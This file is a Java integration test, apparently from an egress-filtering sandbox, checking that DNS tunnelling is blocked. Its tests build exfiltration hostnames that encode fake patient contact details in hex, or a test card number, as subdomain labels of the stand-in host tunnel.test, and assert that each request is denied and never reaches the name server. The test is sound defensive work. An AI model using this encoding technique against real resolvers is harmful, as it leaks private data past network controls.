package dev.weir.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.attacks.Besieged.Verdict;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;

/** Data that would leave in the question to a name server, whatever becomes of the call. */
@Siege
class NamesIT {

  private static final String TEXT = HexFormat.of()
      .formatHex("patient 17: j.doe@example.com".getBytes(StandardCharsets.UTF_8));

  private final Besieged besieged;

  NamesIT(Besieged besieged) throws IOException {
    this.besieged = besieged;
    assertThat(besieged.allows(List.of("*.tunnel.test"), true)).isTrue();
  }

  private void isNotAsked(String host, Reply reply) throws IOException {
    assertThat(Besieged.verdict(reply)).as(reply.text()).isEqualTo(Verdict.DENIED);
    assertThat(besieged.names().questions()).noneMatch(question -> question.name().equals(host));
    assertThat(besieged.auditedHost(reply)).isEqualTo("tunnel.test");
  }

  @Test
  void textInOneLabel() throws IOException {
    String host = TEXT + ".tunnel.test";
    isNotAsked(host, besieged.get("http://" + host + "/"));
  }

  @Test
  void textCutIntoLabelsInCapitals() throws IOException {
    String host = TEXT.substring(0, 15) + "." + TEXT.substring(15, 39) + "." + TEXT.substring(39)
        + ".tunnel.test";
    isNotAsked(host, besieged.get("http://" + host.toUpperCase(Locale.ROOT) + "/"));
  }

  @Test
  void aCardInATunnelsName() throws IOException {
    String host = "4111111111111111.tunnel.test";
    isNotAsked(host, besieged.connect(host + ":443"));
  }

  @Test
  void aNameIsLetOut() {
    besieged.names().tell("api.tunnel.test", 0, "127.0.0.1");
    assertThat(Besieged.verdict(besieged.get("http://api.tunnel.test/"))).isEqualTo(Verdict.LET_OUT);
  }
}
